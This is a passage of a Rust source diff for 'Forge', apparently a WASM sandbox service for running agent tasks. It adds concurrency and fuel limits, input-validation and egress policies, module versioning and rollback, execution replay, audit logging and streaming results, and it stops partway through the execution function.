@@ -3,22 +3,157 @@
 //! A production-ready, secure WASM execution environment using Fermyon Spin
 //! that provides ephemeral, sandboxed execution for agent tasks.
 
-use std::collections::HashMap;
-use std::sync::Arc;
-use tokio::sync::RwLock;
+pub mod audit;
+pub mod egress;
+pub mod fair_queue;
+pub mod health;
+#[cfg(feature = "wasmtime")]
+pub mod executor;
+pub mod heartbeat;
+pub mod input_validation;
+pub mod metrics;
+pub mod pinning;
+pub mod rate_limit;
+pub mod registry;
+pub mod scheduler;
+pub mod slo;
+pub mod slots;
+pub mod streaming;
+pub mod trace;
+pub mod warm_pool;
+pub mod wasi;
+
+use std::collections::{HashMap, VecDeque};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+use tokio::sync::{broadcast, RwLock};
 use serde::{Deserialize, Serialize};
-use tracing::{info, warn, error};
+use tracing::{info, warn, error, Instrument};
+
+pub use audit::{AuditEntry, AuditEvent, AuditFilter, AuditLog, PolicyDecision};
+pub use egress::{EgressDenied, EgressDestination, EgressPolicy, HttpExchange, HttpRequest, HttpResponse, ResourceReport};
+pub use fair_queue::{FairSchedulingPolicy, TenantQueueStats, DEFAULT_TENANT};
+pub use health::{HealthReport, HealthThresholds, NotReadyReason, PolicySummary};
+pub use heartbeat::{ExecutionState, InFlightStatus};
+pub use input_validation::{InputValidationPolicy, InputViolation, PatternRule};
+pub use metrics::{ExecutionStats, ForgeMetrics};
+pub use pinning::DEFAULT_POLICY_SNAPSHOTS;
+pub use rate_limit::{InvalidRateLimit, RateLimit, RateLimited};
+pub use registry::{ImportMode, ImportReport, ModuleImport, RateLimitOverride, RegistrySnapshot};
+use egress::HttpEgress;
+use health::FailureWindow;
+use heartbeat::InFlightExecution;
+use input_validation::InputValidator;
+pub use scheduler::{HookStatus, MaintenanceHook};
+pub use slo::{BurnWindow, CapabilityAlert, CapabilityOffender, CapabilitySloPolicy, CapabilitySloStatus, CapabilityUsage, SloTarget};
+pub use slots::{ConcurrencyStats, SlotCounts, SlotError};
+pub use streaming::{ExecutionEvent, ExecutionHandle};
+pub use trace::TraceContext;
+pub use warm_pool::{WarmPoolConfig, WarmPoolStats};
+pub use wasi::{CapturedStdio, WasiContext, WasiError, WasiInterface, WasiPolicy};
+use metrics::MetricsRecorder;
+use pinning::{ModuleBlob, PinStore};
+use rate_limit::ModuleRateLimiter;
+use scheduler::{HookState, HookTable};
+use slo::{CapabilitySlos, SloTransition};
+use slots::{AdmissionPolicy, ExecutionSlots, SlotPermit};
+use streaming::EventSink;
+use warm_pool::{WarmInstance, WarmPool};
 
 /// Execution result from WASM sandbox
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct ExecutionResult {
     pub execution_id: String,
+    /// Module the execution ran
+    #[serde(default)]
+    pub module_id: String,
+    /// Version of the module that ran
+    #[serde(default)]
+    pub module_version: String,
     pub success: bool,
     pub output: serde_json::Value,
     pub execution_time_ms: u64,
     pub memory_used_kb: u64,
     pub security_violations: Vec<String>,
+    /// Validation rules the input broke, when it was refused
+    #[serde(default)]
+    pub input_violations: Vec<InputViolation>,
     pub timestamp: chrono::DateTime<chrono::Utc>,
+    #[serde(default)]
+    pub kind: ExecutionKind,
+    /// Trace the execution belongs to, when the caller propagated one
+    #[serde(default)]
+    pub trace_id: Option<String>,
+    /// stdout/stderr written through WASI, capped by the policy
+    #[serde(default)]
+    pub stdio: Option<CapturedStdio>,
+    /// Content hash of the module blob that ran
+    #[serde(default)]
+    pub blob_hash: String,
+    /// Snapshot of the security policy the execution ran under
+    #[serde(default)]
+    pub policy_snapshot_id: String,
+    /// Execution this one replayed
+    #[serde(default)]
+    pub replay_of: Option<String>,
+    /// Outbound requests the execution made
+    #[serde(default)]
+    pub resources: ResourceReport,
+}
+
+/// What triggered an execution
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ExecutionKind {
+    /// Regular caller-initiated execution
+    #[default]
+    Invocation,
+    /// Scheduled maintenance hook run
+    Maintenance,
+    /// Re-run of a retained execution
+    Replay,
+}
+
+/// Events emitted by Forge for observers
+#[derive(Debug, Clone)]
+pub enum ForgeEvent {
+    /// A maintenance hook was disabled after repeated failures
+    HookDisabled {
+        module_id: String,
+        hook: String,
+        consecutive_failures: u32,
+        last_error: Option<String>,
+    },
+    /// An in-flight execution reported liveness
+    Heartbeat {
+        execution_id: String,
+        module_id: String,
+        progress: Option<serde_json::Value>,
+    },
+    /// An in-flight execution missed its heartbeat staleness window
+    ExecutionStalled {
+        execution_id: String,
+        module_id: String,
+        since_heartbeat_ms: u64,
+    },
+    /// A host capability is burning its error budget past a threshold
+    CapabilitySloAlert(CapabilityAlert),
+    /// A capability's burn rate fell back under the threshold of a raised alert
+    CapabilitySloCleared {
+        capability: String,
+        window: BurnWindow,
+        burn_rate: f64,
+    },
+}
+
+/// Module metadata together with its runtime state
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ModuleDescription {
+    pub module: WasmModule,
+    pub hooks: Vec<HookStatus>,
+    /// Calls the module made through each host capability
+    #[serde(default)]
+    pub capabilities: HashMap<String, CapabilityUsage>,
 }
 
 /// WASM module metadata
@@ -31,6 +166,21 @@ pub struct WasmModule {
     pub max_memory_mb: u32,
     pub max_execution_time_ms: u64,
     pub checksum: String,
+    #[serde(default)]
+    pub maintenance_hooks: Vec<MaintenanceHook>,
+    /// Sandbox profile selecting the WASI interfaces the module may import
+    #[serde(default)]
+    pub sandbox_profile: Option<String>,
+    /// Executions allowed per second; unlimited when unset
+    #[serde(default)]
+    pub rate_limit: Option<RateLimit>,
+}
+
+impl WasmModule {
+    /// Sandbox profile the module runs under
+    pub fn sandbox_profile(&self) -> &str {
+        self.sandbox_profile.as_deref().unwrap_or(wasi::DEFAULT_PROFILE)
+    }
 }
 
 /// Security policy for execution
@@ -41,89 +191,1010 @@ pub struct SecurityPolicy {
     pub max_memory_mb: u32,
     pub max_execution_time_ms: u64,
     pub allowed_capabilities: Vec<String>,
+    /// Maximum number of executions running at the same time
+    #[serde(default = "default_max_concurrent_executions")]
+    pub max_concurrent_executions: usize,
+    /// Maximum number of executions of any one module running at the same time
+    #[serde(default)]
+    pub max_concurrent_per_module: Option<usize>,
+    /// Executions allowed to wait for a slot in `Queue` mode; unbounded when unset
+    #[serde(default)]
+    pub max_queue_depth: Option<usize>,
+    /// How long a caller may wait for a free execution slot
+    #[serde(default = "default_capacity_grace_ms")]
+    pub capacity_grace_ms: u64,
+    /// What happens to executions beyond the concurrency limit
+    #[serde(default)]
+    pub overflow_mode: OverflowMode,
+    /// Flag executions as stalled after this long without a heartbeat
+    #[serde(default)]
+    pub heartbeat_staleness_ms: Option<u64>,
+    /// Terminate stalled executions instead of only flagging them
+    #[serde(default)]
+    pub terminate_stalled: bool,
+    /// WASI sandbox profiles and stdio capture limits
+    #[serde(default)]
+    pub wasi: WasiPolicy,
+    /// Fuel granted to each execution of a real WASM module
+    #[serde(default = "default_max_fuel")]
+    pub max_fuel: u64,
+    /// Rules execution input must pass before a module runs
+    #[serde(default)]
+    pub input_validation: InputValidationPolicy,
+    /// Destinations and quotas for outbound HTTP
+    #[serde(default)]
+    pub egress: EgressPolicy,
+    /// Largest serialized execution output kept in a result
+    #[serde(default = "default_max_output_bytes")]
+    pub max_output_bytes: usize,
+    /// What happens to outputs over `max_output_bytes`
+    #[serde(default)]
+    pub output_overflow: OutputOverflow,
+    /// How Forge-wide execution slots are shared between tenants
+    #[serde(default)]
+    pub fair_scheduling: FairSchedulingPolicy,
+}
+
+/// Behaviour when all execution slots are taken
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum OverflowMode {
+    /// Wait up to `capacity_grace_ms` for a slot, then fail with `forge_at_capacity`
+    #[default]
+    Reject,
+    /// Wait for a slot without a deadline, up to `max_queue_depth` waiters
+    Queue,
+}
+
+/// Behaviour when an execution's output exceeds `max_output_bytes`
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum OutputOverflow {
+    /// Replace the output with `{"truncated": true, "original_size": N}`; the execution still succeeds
+    #[default]
+    Truncate,
+    /// Fail the execution
+    Reject,
 }
 
+fn default_max_concurrent_executions() -> usize {
+    32
+}
+
+fn default_capacity_grace_ms() -> u64 {
+    250
+}
+
+fn default_max_fuel() -> u64 {
+    1_000_000_000
+}
+
+fn default_max_output_bytes() -> usize {
+    1024 * 1024
+}
+
+/// Number of versions retained per module id unless configured otherwise
+pub const DEFAULT_VERSION_HISTORY: usize = 5;
+
+/// How long execution results stay retrievable unless configured otherwise
+pub const DEFAULT_RESULT_RETENTION: Duration = Duration::from_secs(3600);
+
+/// Number of execution results retained unless configured otherwise
+pub const DEFAULT_MAX_RESULTS: usize = 10_000;
+
+/// Receives execution results as they are evicted, e.g. to archive them
+pub type EvictionSink = Arc<dyn Fn(ExecutionResult) + Send + Sync>;
+
 /// Main Forge service
 #[derive(Clone)]
 pub struct Forge {
     modules: Arc<RwLock<HashMap<String, WasmModule>>>,
+    module_versions: Arc<RwLock<HashMap<String, VecDeque<WasmModule>>>>,
+    version_history: usize,
     active_executions: Arc<RwLock<HashMap<String, ExecutionResult>>>,
+    in_flight: Arc<RwLock<HashMap<String, InFlightExecution>>>,
+    result_retention: Duration,
+    max_results: usize,
+    eviction_sink: Option<EvictionSink>,
+    metrics: Arc<Mutex<MetricsRecorder>>,
+    health_thresholds: HealthThresholds,
+    failure_window: Arc<Mutex<FailureWindow>>,
+    capability_slos: Arc<Mutex<CapabilitySlos>>,
+    hooks: Arc<RwLock<HookTable>>,
+    events: broadcast::Sender<ForgeEvent>,
+    execution_slots: Arc<ExecutionSlots>,
+    rate_limits: Arc<Mutex<ModuleRateLimiter>>,
+    warm_pool: Arc<Mutex<WarmPool>>,
+    pins: Arc<Mutex<PinStore>>,
+    audit: Arc<AuditLog>,
+    input_validator: Arc<InputValidator>,
     security_policy: SecurityPolicy,
+    policy_snapshot_id: String,
+    #[cfg(feature = "wasmtime")]
+    executor: Arc<executor::WasmtimeExecutor>,
 }
 
 impl Forge {
     /// Create a new Forge instance
     pub fn new(security_policy: SecurityPolicy) -> Self {
+        let (events, _) = broadcast::channel(256);
+        let mut pins = PinStore::new();
+        let policy_snapshot_id = pins.archive_policy(&security_policy);
+
         Self {
             modules: Arc::new(RwLock::new(HashMap::new())),
+            module_versions: Arc::new(RwLock::new(HashMap::new())),
+            version_history: DEFAULT_VERSION_HISTORY,
             active_executions: Arc::new(RwLock::new(HashMap::new())),
+            in_flight: Arc::new(RwLock::new(HashMap::new())),
+            result_retention: DEFAULT_RESULT_RETENTION,
+            max_results: DEFAULT_MAX_RESULTS,
+            eviction_sink: None,
+            metrics: Arc::new(Mutex::new(MetricsRecorder::default())),
+            health_thresholds: HealthThresholds::default(),
+            failure_window: Arc::new(Mutex::new(FailureWindow::new(Duration::from_millis(
+                HealthThresholds::default().failure_window_ms,
+            )))),
+            capability_slos: Arc::new(Mutex::new(CapabilitySlos::default())),
+            hooks: Arc::new(RwLock::new(HashMap::new())),
+            events,
+            execution_slots: Arc::new(ExecutionSlots::new(
+                security_policy.max_concurrent_executions,
+                security_policy.max_concurrent_per_module,
+                security_policy.fair_scheduling.clone(),
+            )),
+            rate_limits: Arc::new(Mutex::new(ModuleRateLimiter::default())),
+            warm_pool: Arc::new(Mutex::new(WarmPool::new(WarmPoolConfig::default()))),
+            pins: Arc::new(Mutex::new(pins)),
+            audit: Arc::new(AuditLog::new(audit::DEFAULT_AUDIT_BUFFER)),
+            input_validator: Self::input_validator(&security_policy),
             security_policy,
+            policy_snapshot_id,
+            #[cfg(feature = "wasmtime")]
+            executor: Arc::new(executor::WasmtimeExecutor::new()),
+        }
+    }
+
+    /// Set how many versions are retained per module id (at least one)
+    pub fn with_version_history(mut self, versions: usize) -> Self {
+        self.version_history = versions.max(1);
+        self
+    }
+
+    /// Set how long execution results are kept in `active_executions`
+    pub fn with_result_retention(mut self, retention: Duration) -> Self {
+        self.result_retention = retention;
+        self
+    }
+
+    /// Set how many execution results are kept; the oldest are evicted first
+    pub fn with_max_results(mut self, max_results: usize) -> Self {
+        self.max_results = max_results;
+        self
+    }
+
+    /// Set how many policy snapshots no retained execution references are kept
+    pub fn with_policy_snapshot_history(self, snapshots: usize) -> Self {
+        self.pins.lock().unwrap().set_max_policy_snapshots(snapshots);
+        self
+    }
+
+    /// Set how many module versions are kept warm and for how long when idle
+    pub fn with_warm_pool(mut self, config: WarmPoolConfig) -> Self {
+        self.warm_pool = Arc::new(Mutex::new(WarmPool::new(config)));
+        self
+    }
+
+    /// Set how many audit entries may wait for the writer before new ones are dropped
+    pub fn with_audit_buffer(mut self, buffer: usize) -> Self {
+        self.audit = Arc::new(AuditLog::new(buffer));
+        self
+    }
+
+    /// Set the queue depth and failure rate past which Forge reports itself not ready
+    pub fn with_health_thresholds(mut self, thresholds: HealthThresholds) -> Self {
+        self.failure_window = Arc::new(Mutex::new(FailureWindow::new(Duration::from_millis(thresholds.failure_window_ms))));
+        self.health_thresholds = thresholds;
+        self
+    }
+
+    /// Set the targets and burn-rate thresholds host capability calls are held to
+    pub fn with_capability_slos(mut self, policy: CapabilitySloPolicy) -> Self {
+        self.capability_slos = Arc::new(Mutex::new(CapabilitySlos::new(policy)));
+        self
+    }
+
+    /// Hand evicted and purged execution results to `sink` instead of dropping them
+    pub fn with_eviction_sink<F>(mut self, sink: F) -> Self
+    where
+        F: Fn(ExecutionResult) + Send + Sync + 'static,
+    {
+        self.eviction_sink = Some(Arc::new(sink));
+        self
+    }
+
+    /// Aggregate execution metrics across all modules
+    pub fn metrics(&self) -> ForgeMetrics {
+        self.metrics.lock().unwrap().snapshot()
+    }
+
+    /// Capacity, recent failure rate and policy summary, with whether Forge can take work
+    pub async fn health(&self) -> HealthReport {
+        let stats = self.execution_stats().await;
+        let loaded_modules = self.modules.read().await.len();
+        let (window_executions, window_failures) = self.failure_window.lock().unwrap().counts();
+        let failure_rate = if window_executions == 0 {
+            0.0
+        } else {
+            window_failures as f64 / window_executions as f64
+        };
+
+        let thresholds = &self.health_thresholds;
+        let saturated = match thresholds.max_queue_depth.or(self.security_policy.max_queue_depth) {
+            Some(max_queue_depth) => stats.queued >= max_queue_depth,
+            None => stats.in_flight >= self.security_policy.max_concurrent_executions,
+        };
+        let failing = window_executions >= thresholds.min_window_executions
+            && failure_rate > thresholds.max_failure_rate;
+
+        let mut not_ready_reasons = Vec::new();
+        if saturated {
+            not_ready_reasons.push(NotReadyReason::QueueSaturated);
+        }
+        if failing {
+            not_ready_reasons.push(NotReadyReason::FailureRateExceeded);
+        }
+
+        HealthReport {
+            ready: not_ready_reasons.is_empty(),
+            not_ready_reasons,
+            loaded_modules,
+            in_flight_executions: stats.in_flight,
+            queue_depth: stats.queued,
+            window_executions,
+            window_failures,
+            failure_rate,
+            policy: PolicySummary::new(&self.security_policy, &self.policy_snapshot_id),
+            thresholds: thresholds.clone(),
+            checked_at: chrono::Utc::now(),
         }
     }
 
+    /// Whether Forge can take work: its queue is not saturated and recent executions mostly succeed
+    pub async fn ready(&self) -> bool {
+        self.health().await.ready
+    }
+
+    /// Warm pool hits, misses and evictions so far
+    pub fn warm_pool_stats(&self) -> WarmPoolStats {
+        self.warm_pool.lock().unwrap().stats()
+    }
+
+    /// Audit trail of execution attempts, module validations and policy changes
+    pub fn audit_log(&self) -> &AuditLog {
+        &self.audit
+    }
+
+    /// Subscribe to Forge events
+    pub fn subscribe(&self) -> broadcast::Receiver<ForgeEvent> {
+        self.events.subscribe()
+    }
+
     /// Load a WASM module into the sandbox
     pub async fn load_module(&self, module: WasmModule) -> Result<(), Box<dyn std::error::Error>> {
         // Validate module against security policy
         self.validate_module(&module).await?;
 
+        let hash = pinning::blob_hash(&module, None);
+        self.install_module(module, &hash, None).await;
+
+        Ok(())
+    }
+
+    /// Load a WASM module together with its binary, which is then executed by
+    /// wasmtime instead of the simulation
+    #[cfg(feature = "wasmtime")]
+    pub async fn load_module_binary(&self, module: WasmModule, wasm: &[u8]) -> Result<(), Box<dyn std::error::Error>> {
+        self.validate_module(&module).await?;
+        self.link_wasi(&module, wasm)?;
+        let hash = pinning::blob_hash(&module, Some(wasm));
+        self.executor.compile(&hash, wasm)?;
+        self.install_module(module, &hash, Some(wasm)).await;
+        Ok(())
+    }
+
+    /// Record a validated module version under its blob hash and make it the active one
+    async fn install_module(&self, module: WasmModule, hash: &str, wasm: Option<&[u8]>) {
         // Load module into Spin runtime (simplified for demo)
         info!("🔥 Loading WASM module: {} v{}", module.name, module.version);
 
+        let _replaced = self.pins.lock().unwrap().add_version(hash, &module, wasm);
+        #[cfg(feature = "wasmtime")]
+        if let Some(replaced) = _replaced {
+            self.executor.evict(&replaced);
+        }
+
+        // Record in version history, replacing a reload of the same version
+        {
+            let mut versions = self.module_versions.write().await;
+            let history = versions.entry(module.id.clone()).or_default();
+            history.retain(|existing| existing.version != module.version);
+            history.push_back(module.clone());
+            while history.len() > self.version_history {
+                if let Some(evicted) = history.pop_front() {
+                    self.release_version(&evicted);
+                }
+            }
+        }
+
+        self.activate_module(module).await;
+    }
+
+    /// Forget a module version's blob, dropping its compiled binary once no
+    /// loaded version uses it. Retained executions keep the blob itself pinned.
+    fn release_version(&self, module: &WasmModule) {
+        self.warm_pool.lock().unwrap().remove(&module.id, Some(&module.version));
+        let _unused = self.pins.lock().unwrap().remove_version(module);
+        #[cfg(feature = "wasmtime")]
+        if let Some(unused) = _unused {
+            self.executor.evict(&unused);
+        }
+    }
+
+    /// Make a module version the active one for its id
+    async fn activate_module(&self, module: WasmModule) {
+        let hook_states = module.maintenance_hooks.iter()
+            .map(|hook| (hook.name.clone(), HookState::new(hook.clone())))
+            .collect();
+        self.hooks.write().await.insert(module.id.clone(), hook_states);
+        self.rate_limits.lock().unwrap().set(&module.id, module.rate_limit);
+
         let mut modules = self.modules.write().await;
         modules.insert(module.id.clone(), module);
+    }
+
+    /// List retained versions of a module, oldest first
+    pub async fn list_module_versions(&self, module_id: &str) -> Vec<String> {
+        self.module_versions.read().await
+            .get(module_id)
+            .map(|history| history.iter().map(|module| module.version.clone()).collect())
+            .unwrap_or_default()
+    }
+
+    /// Make a previously loaded version the active one again
+    pub async fn rollback_module(&self, module_id: &str, version: &str) -> Result<(), Box<dyn std::error::Error>> {
+        self.set_default_version(module_id, version).await?;
+        info!("⏪ Rolled back module {} to v{}", module_id, version);
+        Ok(())
+    }
+
+    /// Make a retained version the default one, used by `execute_module`.
+    /// Loading a version makes it the default.
+    pub async fn set_default_version(&self, module_id: &str, version: &str) -> Result<(), Box<dyn std::error::Error>> {
+        let module = self.get_module_version(module_id, version).await
+            .ok_or_else(|| format!("Module {} version {} not found", module_id, version))?;
+
+        info!("🔀 Default version of module {} set to v{}", module_id, version);
+        self.activate_module(module).await;
+
+        Ok(())
+    }
+
+    /// Change a module's rate limit at runtime, or lift it with `None`.
+    /// Activating a version applies that version's own limit again.
+    pub async fn set_module_rate_limit(&self, module_id: &str, limit: Option<RateLimit>) -> Result<(), Box<dyn std::error::Error>> {
+        if !self.modules.read().await.contains_key(module_id) {
+            return Err(format!("Module {} not found", module_id).into());
+        }
+        if let Some(limit) = &limit {
+            limit.validate()?;
+        }
+
+        match limit {
+            Some(limit) => info!("🚥 Module {} limited to {} executions/s (burst {})", module_id, limit.requests_per_second, limit.burst),
+            None => info!("🚥 Module {} rate limit lifted", module_id),
+        }
+        self.rate_limits.lock().unwrap().set(module_id, limit);
+        Ok(())
+    }
+
+    /// Current rate limit of a module
+    pub fn module_rate_limit(&self, module_id: &str) -> Option<RateLimit> {
+        self.rate_limits.lock().unwrap().get(module_id)
+    }
+
+    /// Prepare the default version of a module ahead of its executions, e.g.
+    /// before a workflow that calls it
+    pub async fn warm_module(&self, module_id: &str) -> Result<(), Box<dyn std::error::Error>> {
+        let module = self.get_module(module_id).await
+            .ok_or_else(|| format!("Module {} not found", module_id))?;
+        let blob_hash = self.pins.lock().unwrap().version_blob(&module)
+            .unwrap_or_else(|| pinning::blob_hash(&module, None));
+
+        let instance = self.prepare_instance(&blob_hash)?;
+        self.warm_pool.lock().unwrap().insert(&module.id, &module.version, instance);
+        info!("🌡️ Warmed module {} v{}", module.id, module.version);
+        Ok(())
+    }
 
+    /// Default version of a module
+    pub async fn default_version(&self, module_id: &str) -> Option<String> {
+        self.modules.read().await.get(module_id).map(|module| module.version.clone())
+    }
+
+    /// Unload one version of a module. The default version cannot be unloaded;
+    /// make another version the default first, or unload the whole module.
+    pub async fn unload_module_version(&self, module_id: &str, version: &str) -> Result<(), Box<dyn std::error::Error>> {
+        if self.default_version(module_id).await.as_deref() == Some(version) {
+            return Err(format!(
+                "Module {} version {} is the default; set another default version first",
+                module_id, version
+            ).into());
+        }
+
+        let mut versions = self.module_versions.write().await;
+        let history = versions.get_mut(module_id)
+            .ok_or_else(|| format!("Module {} not found", module_id))?;
+        let position = history.iter().position(|module| module.version == version)
+            .ok_or_else(|| format!("Module {} version {} not found", module_id, version))?;
+        if let Some(removed) = history.remove(position) {
+            self.release_version(&removed);
+        }
+
+        info!("🔥 Unloaded WASM module: {} v{}", module_id, version);
         Ok(())
     }
 
+    /// Get a specific retained version of a module
+    async fn get_module_version(&self, module_id: &str, version: &str) -> Option<WasmModule> {
+        self.module_versions.read().await
+            .get(module_id)?
+            .iter()
+            .find(|module| module.version == version)
+            .cloned()
+    }
+
     /// Execute a WASM module with given input
     pub async fn execute_module(
         &self,
         module_id: &str,
         input: serde_json::Value,
     ) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
-        let start_time = std::time::Instant::now();
-        let execution_id = uuid::Uuid::new_v4().to_string();
+        self.execute_module_traced(module_id, input, None).await
+    }
+
+    /// Execute a WASM module as part of a caller's trace
+    pub async fn execute_module_traced(
+        &self,
+        module_id: &str,
+        input: serde_json::Value,
+        trace: Option<&TraceContext>,
+    ) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
+        let module = self.get_module(module_id).await
+            .ok_or_else(|| format!("Module {} not found", module_id))?;
+
+        self.execute_with_kind(module, input, ExecutionKind::Invocation, trace, None, None, None).await
+    }
+
+    /// Execute a WASM module on behalf of a caller's task, recording the task id in the audit log
+    pub async fn execute_module_for_task(
+        &self,
+        task_id: &str,
+        module_id: &str,
+        input: serde_json::Value,
+        trace: Option<&TraceContext>,
+    ) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
+        let module = self.get_module(module_id).await
+            .ok_or_else(|| format!("Module {} not found", module_id))?;
+
+        self.execute_with_kind(module, input, ExecutionKind::Invocation, trace, Some(task_id.to_string()), None, None).await
+    }
+
+    /// Execute a WASM module on behalf of `tenant`. While every execution slot
+    /// is busy, tenants are served in proportion to their weight in the
+    /// policy's `fair_scheduling` rather than in arrival order.
+    pub async fn execute_module_for_tenant(
+        &self,
+        tenant: &str,
+        module_id: &str,
+        input: serde_json::Value,
+        trace: Option<&TraceContext>,
+    ) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
+        let module = self.get_module(module_id).await
+            .ok_or_else(|| format!("Module {} not found", module_id))?;
+
+        self.execute_with_kind(module, input, ExecutionKind::Invocation, trace, None, Some(tenant), None).await
+    }
+
+    /// Execute a specific retained version of a module, regardless of which is active
+    pub async fn execute_module_version(
+        &self,
+        module_id: &str,
+        version: &str,
+        input: serde_json::Value,
+    ) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
+        let module = self.get_module_version(module_id, version).await
+            .ok_or_else(|| format!("Module {} version {} not found", module_id, version))?;
+
+        self.execute_with_kind(module, input, ExecutionKind::Invocation, None, None, None, None).await
+    }
 
-        // Get module
-        let modules = self.modules.read().await;
-        let module = modules.get(module_id)
+    /// Execute a WASM module, streaming its logs and progress as it runs.
+    /// The stream ends with the execution's terminal event.
+    pub async fn execute_module_streaming(
+        &self,
+        module_id: &str,
+        input: serde_json::Value,
+    ) -> Result<(ExecutionHandle, impl futures::Stream<Item = ExecutionEvent> + Unpin), Box<dyn std::error::Error>> {
+        let module = self.get_module(module_id).await
             .ok_or_else(|| format!("Module {} not found", module_id))?;
+        let (handle, sink, stream) = streaming::channel(&module.id);
+
+        let forge = self.clone();
+        tokio::spawn(async move {
+            let outcome = forge.execute_with_kind(module, input, ExecutionKind::Invocation, None, None, None, Some(&sink)).await
+                .map_err(|e| e.to_string());
+            sink.send(match outcome {
+                Ok(result) => ExecutionEvent::Completed(Box::new(result)),
+                Err(_) if sink.is_cancelled() => ExecutionEvent::Cancelled,
+                Err(e) => ExecutionEvent::Failed(e),
+            });
+        });
+
+        Ok((handle, stream))
+    }
+
+    /// Execute a WASM module, labelling the result with the execution kind
+    #[allow(clippy::too_many_arguments)]
+    async fn execute_with_kind(
+        &self,
+        module: WasmModule,
+        input: serde_json::Value,
+        kind: ExecutionKind,
+        trace: Option<&TraceContext>,
+        task_id: Option<String>,
+        tenant: Option<&str>,
+        sink: Option<&EventSink>,
+    ) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
+        let trace = trace.map(TraceContext::child);
+        let span = tracing::info_span!(
+            "forge.execute",
+            module_id = %module.id,
+            trace_id = trace.as_ref().map(|t| t.trace_id.as_str()).unwrap_or_default(),
+            span_id = trace.as_ref().map(|t| t.span_id.as_str()).unwrap_or_default(),
+        );
+        let blob_hash = self.pins.lock().unwrap().version_blob(&module)
+            .unwrap_or_else(|| pinning::blob_hash(&module, None));
+        self.execute_in_span(module, blob_hash, input, kind, trace, task_id, tenant, None, sink).instrument(span).await
+    }
+
+    /// Re-run a retained execution with the module blob and security policy
+    /// it originally ran under, even if the module was upgraded or unloaded
+    /// or the policy changed since
+    pub async fn replay_execution(&self, execution_id: &str) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
+        let original = self.get_execution_result(execution_id).await
+            .ok_or_else(|| format!("Execution {} not found", execution_id))?;
+        let source = self.pins.lock().unwrap().replay_source(&original)
+            .ok_or_else(|| format!("Execution {} cannot be replayed: its module blob or policy snapshot is no longer retained", execution_id))?;
+
+        // Run on a view of Forge that enforces the archived policy
+        let mut pinned = self.clone();
+        pinned.security_policy = source.policy;
+        pinned.policy_snapshot_id = original.policy_snapshot_id.clone();
+
+        let ModuleBlob { module, wasm: _wasm } = source.blob;
+        info!("⏪ Replaying execution {} with {} v{}", execution_id, module.name, module.version);
+
+        // A binary whose version was unloaded is compiled again for the replay only
+        #[cfg(feature = "wasmtime")]
+        let compiled = match &_wasm {
+            Some(wasm) if !self.executor.contains(&original.blob_hash) => {
+                self.executor.compile(&original.blob_hash, wasm)?;
+                true
+            }
+            _ => false,
+        };
+
+        let span = tracing::info_span!("forge.replay", module_id = %module.id, replay_of = %execution_id);
+        let result = pinned.execute_in_span(
+            module,
+            original.blob_hash.clone(),
+            source.input,
+            ExecutionKind::Replay,
+            None,
+            None,
+            None,
+            Some(execution_id.to_string()),
+            None,
+        ).instrument(span).await;
+
+        #[cfg(feature = "wasmtime")]
+        if compiled && !self.pins.lock().unwrap().is_loaded(&original.blob_hash) {
+            self.warm_pool.lock().unwrap().remove_blob(&original.blob_hash);
+            self.executor.evict(&original.blob_hash);
+        }
+
+        result
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    async fn execute_in_span(
+        &self,
+        module: WasmModule,
+        blob_hash: String,
+        input: serde_json::Value,
+        kind: ExecutionKind,
+        trace: Option<TraceContext>,
+        task_id: Option<String>,
+        tenant: Option<&str>,
+        replay_of: Option<String>,
+        sink: Option<&EventSink>,
+    ) -> Result<ExecutionResult, Box<dyn std::error::Error>> {
+        let mut attempt = audit::Attempt::new(&module, kind, task_id);
+        let _permit = tokio::select! {
+            permit = self.acquire_execution_slot(&module.id, tenant.unwrap_or(DEFAULT_TENANT)) => match permit {
+                Ok(permit) => permit,
+                Err(e) => {
+                    attempt.deny(audit::CHECK_EXECUTION_SLOT, &e);
+                    self.audit.record(attempt.failed(None, &e));
+                    return Err(e.into());
+                }
+            },
+            _ = streaming::cancelled(sink) => {
+                self.audit.record(attempt.failed(None, streaming::CANCELLED));
+                return Err(streaming::CANCELLED.into());
+            }
+        };
+        attempt.allow(audit::CHECK_EXECUTION_SLOT);
+
+        let start_time = std::time::Instant::now();
+        let execution_id = uuid::Uuid::new_v4().to_string();
 
         // Validate execution against security policy
-        self.validate_execution(module, &input).await?;
+        let input_violations = match self.validate_execution(&module, &input, &mut attempt).await {
+            Ok(violations) => violations,
+            Err(e) => {
+                self.record_metrics(&module.id, false, start_time.elapsed(), 0);
+                self.audit.record(attempt.failed(Some(&execution_id), &e));
+                return Err(e);
+            }
+        };
 
-        info!("⚡ Executing module: {} (ID: {})", module.name, execution_id);
+        match &trace {
+            Some(trace) => info!(
+                "⚡ Executing module: {} v{} (ID: {}, trace: {})",
+                module.name, module.version, execution_id, trace.trace_id
+            ),
+            None => info!("⚡ Executing module: {} v{} (ID: {})", module.name, module.version, execution_id),
+        }
+        if let Some(sink) = sink {
+            sink.send(ExecutionEvent::Started {
+                execution_id: execution_id.clone(),
+                module_id: module.id.clone(),
+                module_version: module.version.clone(),
+            });
+        }
+
+        let result = if !input_violations.is_empty() {
+            // Refused input is reported as a failed execution without running it
+            let mut rules: Vec<String> = Vec::new();
+            for violation in &input_violations {
+                if !rules.contains(&violation.rule_id) {
+                    rules.push(violation.rule_id.clone());
+                }
+            }
+            warn!("🚨 Refused input of execution {}: broke {}", execution_id, rules.join(", "));
+            SandboxResult {
+                is_success: false,
+                output: serde_json::json!({"error": "Input rejected by validation rules"}),
+                memory_used_kb: 0,
+                security_violations: rules,
+                stdio: None,
+                resources: ResourceReport::default(),
+            }
+        } else {
